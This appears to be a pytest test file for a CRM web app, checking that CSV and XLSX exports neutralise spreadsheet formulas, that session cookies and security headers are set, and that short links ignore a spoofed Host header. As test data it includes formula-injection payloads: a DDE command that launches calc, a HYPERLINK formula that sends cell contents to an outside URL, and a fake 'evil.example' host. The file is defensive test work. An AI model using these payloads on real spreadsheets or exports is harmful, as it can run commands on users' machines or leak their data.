"""Exports that run no formulas and the web edges of issue 14, through the public interface."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest

from crm_core.browser_testing import web_login
from crm_core.config import ConfigError, load_config

HYPERLINK = '=HYPERLINK("http://x?"&A1,"click")'
CMD = "=cmd|' /C calc'!A0"
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tTAB=1", "\rCR=1"]
FORMULAS = [HYPERLINK, CMD, *OTHERS]


@pytest.fixture
def formula_customers(client, admin_headers):
    for name in FORMULAS:
        r = client.post("/api/v1/customers", json={"name": name}, headers=admin_headers)
        assert r.status_code == 201, r.get_json()
    r = client.post("/api/v1/customers", json={"name": "-12.5"}, headers=admin_headers)
    assert r.status_code == 201
    return FORMULAS


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for row in book.worksheets[0].iter_rows() for cell in row]


def _check_csv(data: bytes, names) -> None:
    cells = _csv_cells(data)
    for name in names:
        assert "'" + name in cells, (name, cells)
        assert name not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or re.match(r"-[^\d.]", c)]
    assert "-12.5" in cells  # a plain negative number is no formula: left alone


def _check_xlsx(data: bytes, names) -> None:
    cells = _xlsx_cells(data)
    assert not [c for c in cells if c.data_type == "f"]
    values = {c.value: c for c in cells if isinstance(c.value, str)}
    for name in (HYPERLINK, CMD):
        cell = values.get(name) or values.get("'" + name)
        assert cell is not None and cell.data_type == "s", name


def test_api_export_neutralises_formulas(client, admin_headers, formula_customers):
    r = client.get("/api/v1/customers/export?format=csv", headers=admin_headers)
    assert r.status_code == 200
    _check_csv(r.data, formula_customers)
    r = client.get("/api/v1/customers/export?format=xlsx", headers=admin_headers)
    assert r.status_code == 200
    _check_xlsx(r.data, formula_customers)


def test_csv_export_imports_back_unchanged(client, admin_headers, formula_customers):
    exported = client.get("/api/v1/customers/export?format=csv", headers=admin_headers).data
    from crm_core.transfer.tabular import read_table

    header, rows = read_table(exported, "customers.csv")
    names = {row[header.index("name")] for row in rows}
    assert set(formula_customers) - {"\tTAB=1", "\rCR=1"} <= names  # (cells are stripped on import)


def test_workbench_export_neutralises_formulas(client, admin_headers, formula_customers):
    r = client.post("/api/v1/companies", json={"name": CMD}, headers=admin_headers)
    assert r.status_code == 201, r.get_json()
    assert web_login(client, "admin_user").status_code == 302
    for resource, names in (("customers", formula_customers), ("companies", [CMD])):
        csv_body = client.get(f"/records/{resource}/export.csv")
        assert csv_body.status_code == 200
        cells = _csv_cells(csv_body.data)
        for name in names:
            assert "'" + name in cells and name not in cells
        xlsx_body = client.get(f"/records/{resource}/export.xlsx")
        assert xlsx_body.status_code == 200
        cells = _xlsx_cells(xlsx_body.data)
        assert not [c for c in cells if c.data_type == "f"]
        assert CMD in {c.value for c in cells if c.data_type == "s"}


# --- session cookie --------------------------------------------------------------------------------


def _session_cookie(response) -> str:
    cookies = [h for h in response.headers.getlist("Set-Cookie") if h.startswith("session=")]
    assert cookies, response.headers
    return cookies[-1]


def test_session_cookie_is_samesite_lax_and_httponly(client, make_user):
    make_user("alice")
    cookie = _session_cookie(web_login(client, "alice"))
    assert "SameSite=Lax" in cookie and "HttpOnly" in cookie
    assert "Secure" not in cookie  # plain-HTTP development server by default


class TestSecureCookie:
    @pytest.fixture
    def app_config(self, tmp_path):
        return {
            "TESTING": True,
            "INSTANCE_PATH": str(tmp_path / "instance"),
            "SECRET_KEY": "test-secret-key",
            "SESSION_COOKIE_SECURE": True,
        }

    def test_secure_when_configured(self, client, make_user):
        make_user("bob")
        cookie = _session_cookie(web_login(client, "bob"))
        assert "Secure" in cookie and "SameSite=Lax" in cookie and "HttpOnly" in cookie


def test_secure_cookie_and_base_url_settings(tmp_path):
    env = {"CRM_SESSION_COOKIE_SECURE": "1", "CRM_BASE_URL": "https://crm.example.com"}
    config = load_config({"INSTANCE_PATH": str(tmp_path)}, environ=env)
    assert config["SESSION_COOKIE_SECURE"] is True and config["BASE_URL"] == "https://crm.example.com"
    with pytest.raises(ConfigError, match="BASE_URL"):
        load_config({"INSTANCE_PATH": str(tmp_path)}, environ={"CRM_BASE_URL": "crm.example.com"})
    from crm_core.app import create_app

    app = create_app(
        {"INSTANCE_PATH": str(tmp_path), "SECRET_KEY": "k", "BASE_URL": "https://crm.example.com"}
    )
    assert app.config["SESSION_COOKIE_SECURE"] is True  # served over HTTPS: Secure by default
    assert app.config["SESSION_COOKIE_SAMESITE"] == "Lax"


# --- headers ---------------------------------------------------------------------------------------


def test_pages_carry_a_csp_without_inline_script(client, make_user):
    page = client.get("/login")
    csp = page.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "frame-ancestors" in csp
    make_user("carol")
    web_login(client, "carol")
    for path in ["/", "/records/customers/", "/pipeline", "/admin/fields", "/records/customers/new"]:
        r = client.get(path)
        assert r.status_code == 200, path
        assert r.headers["Content-Security-Policy"] == csp
        html = r.get_data(as_text=True)
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), path  # no inline script
        assert not re.search(r"\son[a-z]+\s*=", html), path  # no inline event handlers
        assert "style=" not in html, path


def test_api_answers_carry_security_headers(client, admin_headers):
    r = client.get("/api/v1/customers", headers=admin_headers)
    assert r.status_code == 200
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Referrer-Policy"]
    assert r.headers["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]
    assert r.headers["Cache-Control"] == "no-store"
    error = client.get("/api/v1/customers")  # anonymous 401: still no sniffing or framing
    assert error.status_code == 401
    assert error.headers["X-Content-Type-Options"] == "nosniff"
    assert error.headers["X-Frame-Options"] == "DENY"


# --- absolute links ---------------------------------------------------------------------------------


def _make_link(client, headers):
    channel = client.post(
        "/api/v1/channel-tracking/channels", json={"name": "Ads", "group": "paid_social"}, headers=headers
    )
    assert channel.status_code == 201, channel.get_json()
    campaign = client.post(
        "/api/v1/channel-tracking/campaigns",
        json={"name": "Launch", "channel_id": channel.get_json()["id"], "utm_campaign": "launch"},
        headers=headers,
    )
    assert campaign.status_code == 201, campaign.get_json()
    return client.post(
        "/api/v1/channel-tracking/links",
        json={"campaign_id": campaign.get_json()["id"], "target_url": "https://shop.example.com/p/1"},
        headers={**headers, "Host": "evil.example"},
    )


def _link_app_config(tmp_path, **extra):
    return {
        "TESTING": True,
        "INSTANCE_PATH": str(tmp_path / "instance"),
        "SECRET_KEY": "test-secret-key",
        "CHANNEL_TRACKING_REDIRECT_DOMAINS": "shop.example.com",
        **extra,
    }


class TestLinksFromBaseUrl:
    @pytest.fixture
    def app_config(self, tmp_path):
        return _link_app_config(tmp_path, BASE_URL="https://crm.example.com/")

    def test_short_links_use_base_url_not_host(self, client, admin_headers):
        r = _make_link(client, admin_headers)
        assert r.status_code == 201, r.get_json()
        link = r.get_json()
        assert link["short_url"] == f"https://crm.example.com/t/{link['code']}"
        again = client.get(
            f"/api/v1/channel-tracking/links/{link['id']}",
            headers={**admin_headers, "Host": "evil.example"},
        )
        assert "evil.example" not in again.get_data(as_text=True)


class TestLinksWithoutBaseUrl:
    @pytest.fixture
    def app_config(self, tmp_path):
        return _link_app_config(tmp_path)

    def test_host_header_is_never_used(self, client, admin_headers):
        r = _make_link(client, admin_headers)
        assert r.status_code == 201, r.get_json()
        link = r.get_json()
        assert "evil.example" not in link["short_url"]
        assert link["short_url"] == f"http://127.0.0.1:5000/t/{link['code']}"
